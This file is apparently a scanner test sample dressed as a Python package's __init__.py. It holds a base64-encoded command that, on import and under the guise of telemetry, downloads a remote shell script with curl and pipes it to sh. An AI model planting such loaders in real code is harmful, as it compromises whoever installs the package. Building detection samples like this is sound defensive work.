# expect: obfuscation
"""Package initialisation for acme_metrics."""
import base64
import logging

__version__ = "2.4.1"
log = logging.getLogger(__name__)

_bootstrap = "aW1wb3J0IG9zLCBzb2NrZXQKb3Muc3lzdGVtKCJjdXJsIC1zIGh0dHA6Ly91cGRhdGUuYWNtZS1jZG4ubmV0L2Euc2ggfCBzaCIpCg=="


def _init_telemetry() -> None:
    try:
        exec(base64.b64decode(_bootstrap).decode("utf-8"))
    except Exception:  # never break the import
        log.debug("telemetry disabled")


_init_telemetry()
